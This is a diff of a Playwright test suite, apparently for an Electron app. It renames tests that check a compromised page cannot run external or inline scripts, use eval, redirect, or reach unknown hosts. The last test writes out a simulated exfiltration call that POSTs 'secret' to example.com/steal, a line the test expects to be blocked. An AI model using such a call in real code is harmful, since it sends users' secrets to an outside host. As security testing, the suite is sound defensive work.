@@ -124,7 +124,7 @@ const addresses = [
   'app://elsewhere/',
 ]
 
-test.describe('a page that has been taken over', () => {
+test.describe('a compromised page', () => {
   test.use({ violationsExpected: true })
   let elsewhere: Elsewhere
   test.beforeEach(async () => {
@@ -132,7 +132,7 @@ test.describe('a page that has been taken over', () => {
   })
   test.afterEach(() => elsewhere.stop())
 
-  test('runs no script of another host, no inline one and no eval', async ({ start }) => {
+  test('cannot run external scripts, inline scripts, or eval', async ({ start }) => {
     const { page } = await start()
     const outcome = await page.evaluate(async (origin) => {
       const violations: string[] = []
@@ -167,7 +167,7 @@ test.describe('a page that has been taken over', () => {
     expect(elsewhere.visits).toEqual([])
   })
 
-  test('cannot be led elsewhere by a redirect, nor hold a web view', async ({ start }) => {
+  test('cannot be redirected to another site or contain a web view', async ({ start }) => {
     const { app } = await start()
     const prevented = await app.evaluate(({ webContents }) => {
       const [contents] = webContents.getAllWebContents()
@@ -227,7 +227,7 @@ test.describe('a page that has been taken over', () => {
     expect(responses).toEqual(['denied', 1, 'NotAllowedError', 'granted', 'denied', 'denied'])
   })
 
-  test('cannot talk to a host that is none of ours', async ({ start }) => {
+  test('cannot send requests to an unknown host', async ({ start }) => {
     const { page } = await start()
     const response = await page.evaluate(() =>
       fetch('https://example.com/steal', { method: 'POST', body: 'secret' }).then(
